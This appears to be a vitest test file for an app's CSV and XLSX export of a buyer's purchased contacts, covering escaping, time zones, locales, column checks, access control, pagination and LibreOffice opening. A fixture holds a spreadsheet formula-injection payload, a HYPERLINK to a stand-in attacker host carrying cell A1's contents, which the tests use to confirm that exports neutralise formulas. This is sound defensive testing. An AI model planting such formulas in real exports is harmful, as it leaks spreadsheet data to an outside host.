import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { boughtContacts } from '#shared/i18n/server-texts.ts'
import { EXPORT_COLUMNS, type ExportFormat } from '#shared/rules/purchases.ts'
import { revealContact } from '#server/features/reveals/reveal-contact.ts'
import {
  asBuyer,
  logIn,
  makeChannel,
  makeChannels,
  makePerson,
  setAddresses,
} from '#test/support/factories.ts'
import { createTestApp, useTestApp } from '#test/support/test-app.ts'
import type { TestClient } from '#test/support/test-client.ts'

const world = useTestApp({ env: { RATE_LIMITS: 'off' } })

type Cell = string | number | boolean | Date | null

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"free")'
const NOTE = '+100 €; "по; рукам", @Ann'

/** A person with three purchases: an ordinary one, one with dangerous texts, and one whose address is withheld. */
async function buyer(): Promise<{ readonly client: TestClient; readonly addresses: readonly string[] }> {
  const { app } = world
  const person = await makePerson(app, { uses: 3 })
  const channels = [
    await makeChannel(app, { name: 'Ёлка, и "лес"' }),
    await makeChannel(app, { name: FORMULA }),
    await makeChannel(app, { name: 'Withheld' }),
  ]
  for (const { channelId } of channels) await revealContact(app, { ...asBuyer(person.id), channelId })
  const client = await logIn(world, person)
  const { data } = (await client.call('GET /purchases')).body
  await client.call('PATCH /purchases/{transactionId}', {
    params: { transactionId: data[1]!.transaction_id },
    body: { version: 1, status: 'contacted', note: NOTE },
  })
  await setAddresses(app.db, channels[2]!, { suppressed_at: app.clock.now() })
  return { client, addresses: channels.map(({ addresses }) => addresses[0]!) }
}

function download(
  client: TestClient,
  query: { format: ExportFormat; columns?: string; zone?: string; list?: number | 'all' },
  language = 'en',
) {
  return client.call('GET /exports', { query, headers: { 'accept-language': language } })
}

/** What the files say, newest first; dates are the clock's. */
function expectedRows(addresses: readonly string[], day: Cell): Cell[][] {
  const source: string = expect.stringMatching(/^https:\/\/videos\.example\//)
  return [
    ['Withheld', null, 'Found', '', null, null, day],
    [FORMULA, addresses[1]!, 'Contacted', NOTE, source, day, day],
    ['Ёлка, и "лес"', addresses[0]!, 'Found', '', source, day, day],
  ]
}

const COLUMNS = 'channel_name,email,status,note,source,lastSeenAt,boughtAt'
const HEADINGS = ['Channel', 'Address', 'Status', 'Note', 'Source', 'Last seen', 'Bought']
const today = () => world.clock.now().toISOString().slice(0, 10)
/** An empty cell is no text in one format and an empty one in the other. */
const filled = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map((cell) => cell ?? ''))

test('a CSV file begins with a mark for UTF-8, quotes every cell, and no cell begins like a formula', async () => {
  const { client, addresses } = await buyer()
  const answer = await download(client, { format: 'csv', columns: COLUMNS })
  expect(answer.status).toBe(200)
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="channelbook-purchases.csv"')
  expect(answer.headers.get('cache-control')).toBe('no-store')
  expect(Buffer.from(answer.bytes).toString('hex', 0, 3)).toBe('efbbbf')
  for (const line of answer.text.split('\r\n')) expect(line).toMatch(/^\uFEFF?".*"$/)
  for (const cell of answer.text.split(/^|,(?=")/m)) expect(cell).not.toMatch(/^"[-=+@\t\r]/)
  const safe = expectedRows(addresses, today()).map((row) =>
    row.map((cell) => (cell === FORMULA || cell === NOTE ? `'${cell}` : cell)),
  )
  expect(parseCsv(answer.text)).toEqual([HEADINGS, ...filled(safe)])
})

test('dates are those of the time zone that the reader asks for, Moscow’s by default, and no other word is a zone', async () => {
  const { client } = await buyer()
  const boughtOn = async (zone?: string) => {
    const answer = await download(client, { format: 'csv', columns: 'boughtAt', ...(zone && { zone }) })
    return answer.status === 200 ? parseCsv(answer.text)[1] : answer.status
  }
  // The clock says 09:00 UTC.
  expect(await boughtOn('Pacific/Pago_Pago')).toEqual(['2026-03-09'])
  expect(await boughtOn('Pacific/Kiritimati')).toEqual(['2026-03-10'])
  expect(await boughtOn()).toEqual(['2026-03-10'])
  expect(await boughtOn('Nowhere/Town')).toBe(400)
})

test('a Russian CSV file has Russian words, and the list separator of Russian spreadsheets', async () => {
  const { client, addresses } = await buyer()
  const { text } = await download(
    client,
    { format: 'csv', columns: 'channel_name,email,status,withheld' },
    'ru',
  )
  const { columns, statuses, withheld } = boughtContacts.ru.purchases
  expect(parseCsv(text, { delimiter: ';' })).toEqual([
    [columns.channel_name, columns.email, columns.status, columns.withheld],
    ['Withheld', '', statuses.found, withheld.objection],
    [`'${FORMULA}`, addresses[1], statuses.contacted, ''],
    ['Ёлка, и "лес"', addresses[0], statuses.found, ''],
  ])
})

test('a workbook has the texts exactly as they are, and dates as dates', async () => {
  const { client, addresses } = await buyer()
  const answer = await download(client, { format: 'xlsx', columns: COLUMNS })
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="channelbook-purchases.xlsx"')
  const [sheet] = (await readXlsx(answer.bytes)).sheets
  const day = new Date(`${today()}T00:00:00Z`)
  expect(filled(sheet!.rows)).toEqual([HEADINGS, ...filled(expectedRows(addresses, day))])
})

test('a workbook stays whole with characters that XML forbids, and keeps what looks like its escapes', async () => {
  const person = await makePerson(world.app, { uses: 1 })
  const channel = await makeChannel(world.app, { name: 'a\u0001b\uffff <&> _x0041_ \u{1f600}' })
  await revealContact(world.app, { ...asBuyer(person.id), channelId: channel.channelId })
  const { bytes } = await download(await logIn(world, person), { format: 'xlsx', columns: 'channel_name' })
  expect((await readXlsx(bytes)).sheets[0]!.rows).toEqual([['Channel'], ['ab <&> _x0041_ \u{1f600}']])
})

test('all columns come by default, the chosen ones in their order and once, and unknown ones are refused', async () => {
  const { client } = await buyer()
  const [all] = parseCsv((await download(client, { format: 'csv' })).text)
  expect(all).toHaveLength(EXPORT_COLUMNS.length)
  const chosen = await download(client, { format: 'csv', columns: 'email,channel_name,email' })
  expect(parseCsv(chosen.text)[0]).toEqual(['Address', 'Channel'])
  for (const columns of ['', 'email,', 'holder_id', 'email,handed_over_at', 'constructor']) {
    const { status, body } = await download(client, { format: 'csv', columns })
    expect([status, body.error?.fields]).toEqual([400, { columns: 'invalid' }])
  }
  const other = await client.call('GET /exports', { query: { format: 'pdf' } })
  expect(other.body.error?.fields).toEqual({ format: 'invalid' })
})

test('a file has the person’s own purchases only, and none that were removed', async () => {
  const [own, stranger] = [await buyer(), await buyer()]
  await own.client.call('DELETE /rmpurchase/{userId}', {
    params: { userId: own.client.userId! },
    body: { channelName: FORMULA },
  })
  const { text } = await download(own.client, { format: 'csv', columns: 'email' })
  expect(parseCsv(text)).toEqual([['Address'], [''], [own.addresses[0]]])
  for (const address of stranger.addresses) expect(text).not.toContain(address)
  const nobody = await download(world.client(), { format: 'xlsx' })
  expect(nobody).toMatchObject({ status: 401, body: { error: { code: 'not_logged_in' } } })
  const empty = await download(await logIn(world, await makePerson(world.app)), { format: 'csv' })
  expect(parseCsv(empty.text)).toHaveLength(1)
})

/** A person with a number of purchases, and their addresses, newest first. */
async function manyPurchases(count: number) {
  const { app } = world
  const person = await makePerson(app)
  const channels = await makeChannels(app, count)
  const ids = channels.map(({ id }) => id)
  await sql`
    with bought as (
      insert into reveal (holder_id, channel_id, contact_id, created_at)
      select ${person.id}, channel_id, id, ${app.clock.now()}
      from contact where channel_id = any(${ids}::bigint[]) order by channel_id
      returning holder_id, id, channel_id, created_at
    )
    insert into purchase (holder_id, reveal_id, channel_name, created_at)
    select holder_id, bought.id, name, bought.created_at from bought join channel on channel.id = channel_id
    order by channel_id`.execute(app.db)
  const addresses = channels.map((channel) => channel.addresses[0]!).toReversed()
  return { client: await logIn(world, person), holderId: person.id, addresses }
}

test('a list’s file has all that is known and noted, bought or not, and each export is an event on each of its cards', async () => {
  const { client, addresses } = await buyer()
  const { data: bought } = (await client.call('GET /cards')).body
  const other = await makeChannel(world.app, { name: 'Not bought' })
  await sql`update channel set country = 'KZ', language = 'ru' where id = ${other.id}`.execute(world.app.db)
  const channelIds = [other.channelId, bought.find(({ channel_name }) => channel_name === FORMULA)!.channelId]
  const { listId } = (await client.call('POST /lists', { body: { name: 'Spring', channelIds } })).body.data
  await client.call('PATCH /cards/{channelId}', {
    params: { channelId: other.channelId },
    body: {
      version: 1,
      tags: ['b', 'a'],
      nextStepOn: '2026-04-01',
      price: { amount: 1500.5, currency: 'EUR' },
      ownerId: client.userId!,
    },
  })
  const columns =
    'channel_name,email,status,tags,nextStepOn,price,currency,owner,country,language,boughtAt,addedAt,channelId,version'
  const save = async (query: object, language?: string) =>
    (await download(client, { format: 'csv', columns, ...query }, language)).text
  const { username } = (await client.call('GET /cards')).body.data.find(
    ({ channelId }) => channelId === other.channelId,
  )!.owner!
  const saved = parseCsv(await save({ list: listId })).slice(1)
  const named = (name: string) => saved.find(([cell]) => cell === name)
  expect(saved).toHaveLength(2)
  expect(named('Not bought')).toEqual(
    [
      'Not bought',
      '',
      'Found',
      'a, b',
      '2026-04-01',
      '1500.5',
      'EUR',
      username,
      'Kazakhstan',
      'Russian',
      '',
    ].concat(today(), other.channelId, '2'),
  )
  expect(named(`'${FORMULA}`)?.[1]).toBe(addresses[1])
  expect(await save({ list: listId }, 'ru')).toContain('"1500,5";"EUR"')
  expect(parseCsv(await save({ list: 'all' }))).toHaveLength(5)
  expect(parseCsv(await save({}))).toHaveLength(4)
  const events = async (channelId: string) => {
    const { data } = (await client.call('GET /cards/{channelId}/events', { params: { channelId } })).body
    return data.filter(({ kind }) => kind === 'exported').map(({ by, value }) => [by?.userId, value])
  }
  expect(await events(other.channelId)).toEqual([[client.userId, 'csv']])
  const withheld = bought.find(({ channel_name }) => channel_name === 'Withheld')!
  expect(await events(withheld.channelId)).toHaveLength(1)
  const strange = await download(await logIn(world, await makePerson(world.app)), {
    format: 'csv',
    list: listId,
  })
  expect(strange.status).toBe(404)
})

test('very many purchases come once each, in order, in the list and in both formats', async () => {
  const { client, addresses } = await manyPurchases(1_250)
  const { text } = await download(client, { format: 'csv', columns: 'email' })
  expect(parseCsv(text).slice(1).flat()).toEqual(addresses)
  const { bytes } = await download(client, { format: 'xlsx', columns: 'email' })
  expect((await readXlsx(bytes)).sheets[0]!.rows.slice(1).flat()).toEqual(addresses)
  const seen: (string | null)[] = []
  for (let cursor: string | null = ''; cursor !== null; ) {
    const query: object = { limit: 50, ...(cursor !== '' && { cursor }) }
    const page = (await client.call('GET /purchases', { query: { ...query } })).body
    seen.push(...page.data.map(({ email }) => email))
    cursor = page.meta.nextCursor
  }
  expect(seen).toEqual(addresses)
})

test('a file that cannot be finished breaks off instead of looking whole', async () => {
  const { client, holderId } = await manyPurchases(1_001)
  // A year that no calendar here can write, among the last to be read.
  await sql`
    update purchase set created_at = '200000-01-01'
    where id = (select min(id) from purchase where holder_id = ${holderId})`.execute(world.app.db)
  for (const format of ['csv', 'xlsx'] as const) {
    await expect(download(client, { format })).rejects.toThrow('terminated')
  }
})

test('the 31st file of an hour is refused', async () => {
  await using limited = await createTestApp({ databaseUrl: world.databaseUrl, clock: world.clock })
  const person = await makePerson(world.app)
  const client = await logIn(limited, person)
  await limited.app.limits.consume('export', String(person.id), 29)
  expect((await download(client, { format: 'csv' })).status).toBe(200)
  expect((await download(client, { format: 'csv' })).body.error?.code).toBe('too_many_requests')
})

const run = promisify(execFile)
const hasLibreOffice = await run('soffice', ['--version']).then(
  () => true,
  () => false,
)
/** What its dialog proposes for a CSV file: separated by commas, semicolons and tabs, UTF-8 as the file's mark says. */
const AS_PROPOSED = '--infilter=Text - txt - csv (StarCalc):44/59/9,34,76,1'

// The name of the skipped test says what is missing.
const libreOffice = hasLibreOffice ? 'LibreOffice' : 'LibreOffice (skipped: there is no soffice here)'
test.skipIf(!hasLibreOffice)(
  `${libreOffice} opens all files with the same cells, runs no formula, and knows the dates`,
  { timeout: 180_000 },
  async () => {
    const { client, addresses } = await buyer()
    const folder = await mkdtemp(path.join(tmpdir(), 'channelbook-office-'))
    const profile = `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`
    /** Opens files of these languages, and reads what LibreOffice saves of them. */
    const open = async (format: ExportFormat, languages: readonly string[]) => {
      const files = languages.map((language) => path.join(folder, `${language}.${format}`))
      for (const [place, language] of languages.entries()) {
        const columns = 'channel_name,email,note,boughtAt'
        await writeFile(files[place]!, (await download(client, { format, columns }, language)).bytes)
      }
      const target = ['--convert-to', 'xlsx', '--outdir', path.join(folder, format)]
      await run('soffice', [
        profile,
        '--headless',
        ...target,
        ...(format === 'csv' ? [AS_PROPOSED] : []),
        ...files,
      ])
      return Promise.all(
        languages.map(async (language) => {
          const saved = await readFile(path.join(folder, format, `${language}.xlsx`))
          return filled((await readXlsx(saved)).sheets[0]!.rows.slice(1))
        }),
      )
    }
    try {
      const day = new Date(`${today()}T00:00:00Z`)
      // A CSV has no types: what would be a formula is a text because it begins with an apostrophe.
      const rows = (mark: string) => [
        ['Withheld', '', '', day],
        [`${mark}${FORMULA}`, addresses[1], `${mark}${NOTE}`, day],
        ['Ёлка, и "лес"', addresses[0], '', day],
      ]
      expect(await open('csv', ['en', 'ru'])).toEqual([rows("'"), rows("'")])
      expect(await open('xlsx', ['en'])).toEqual([rows('')])
    } finally {
      await rm(folder, { recursive: true })
    }
  },
)
